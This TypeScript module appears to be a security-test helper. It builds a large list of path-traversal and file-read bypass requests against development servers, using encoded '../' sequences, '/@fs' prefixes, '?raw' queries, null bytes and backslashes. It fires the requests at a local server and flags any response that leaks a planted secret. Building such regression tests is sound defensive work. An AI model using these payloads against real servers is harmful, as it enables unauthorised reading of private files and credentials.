import { sendRaw } from './attacks/raw-socket'

const encodeAll = (text: string): string =>
  Array.from(text, (letter) => `%${letter.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')

/** Spellings of `/a/b/c` that some decoder reads as that path. */
function spellings(path: string): string[] {
  const [, first = '', ...rest] = path.split('/')
  const tail = rest.join('/')
  return [
    path,
    `/${path}`,
    `/./${path.slice(1)}`,
    `/${encodeAll(first[0] ?? '')}${first.slice(1)}/${tail}`,
    `/${encodeURIComponent(path.slice(1))}`,
    `/${encodeURIComponent(encodeURIComponent(path.slice(1)))}`,
    path.replaceAll('/', '\\'),
    `/${path.slice(1).replaceAll('/', '%5c')}`,
    `/${path.slice(1).replaceAll('/', '%5C')}`,
    `/${path.slice(1).replaceAll('/', '//')}`,
  ]
}

const transforms = [
  '', '?raw', '?url', '?import', '?import&raw', '?raw??', '?import&raw??', '?inline', '?url&inline', '?RAW',
  '?import&?inline=1.wasm?init', '?.svg?.wasm?init', '?worker', '?vue&type=style&src=1', '?html-proxy&index=0.js',
  '?raw%00', '?t=1&raw', '#?raw', '?vue&type=script&raw',
]

/** Paths to this absolute file in the forms of development and static servers. */
export function escapePaths(absolute: string, queries: readonly string[] = transforms): string[] {
  const path = absolute.replaceAll('\\', '/').replace(/^(?!\/)/, '/')
  const climbs = ['..', '%2e%2e', '%2E%2E', '.%2e', '%2e.', '%252e%252e', '..%00', '.%00.'].flatMap((step) =>
    ['/', '%2f', '%2F', '%5c', '\\', '%252f'].map((slash) => `/${Array.from({ length: 12 }, () => step).join(slash)}`))
  const roots = [
    '', '/@fs', '/@fs/', '/@FS', '/@Fs', '/%40fs', '/@%66s', '/@fs/@fs', '/@id', '/@id/', '/@id/__x00__',
    '/@vite/client', '/@fs/x/x/x/vite/?/../../../../..', '/assets', '/static', '/src', '/node_modules/vite',
  ]
  const plain = roots.flatMap((root) => spellings(path).map((spelled) => root + spelled))
  const climbing = climbs.flatMap((climb) =>
    ['', '/static', '/assets', '/src', '/@fs', '/@id', '/@fs/x'].map((root) => `${root}${climb}${path}`))
  const targets = [...plain, ...climbing, `http://127.0.0.1${path}`, `/main.ts?${path}`, `/main.ts#${path}`,
    `/__open-in-editor?file=${path}`, `${path}%00.css`, `/@fs${path}\0`, `/@fs${path}%00.js`, `${path}::$DATA`]
  const asked = targets.flatMap((target) => (target.includes('?') ? ['', '&raw', '?raw'] : queries)
    .map((query) => target + query))
  return [...new Set(asked)]
}

/**
 * Sends the target unchanged, unlike an HTTP client. Returns the whole response; empty when the connection closes
 * without one.
 */
export function askRaw(port: number, target: string, headers: readonly string[] = []): Promise<string> {
  const head = headers.some((line) => /^host:/i.test(line)) ? headers : [`Host: 127.0.0.1:${port}`, ...headers]
  const text = `GET ${target} HTTP/1.1\r\n${[...head, 'Connection: close'].join('\r\n')}\r\n\r\n`
  return sendRaw(`http://127.0.0.1:${port}`, text)
}

/** Requests eight targets at a time. */
export async function readOutside(port: number, targets: readonly string[], secret: string) {
  const statuses: Record<string, number> = {}
  const leaks: string[] = []
  const left = targets.values()
  // A development server sends text as a module and bytes as a data URL.
  const forms = [secret, Buffer.from(secret).toString('base64').slice(0, 24)]
  async function askRest(): Promise<void> {
    for (const target of left) {
      const answer = await askRaw(port, target)
      const status = /^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1] ?? 'closed'
      statuses[status] = (statuses[status] ?? 0) + 1
      if (forms.some((form) => answer.includes(form))) leaks.push(target)
    }
  }
  await Promise.all(Array.from({ length: 8 }, askRest))
  return { asked: targets.length, statuses, leaks }
}
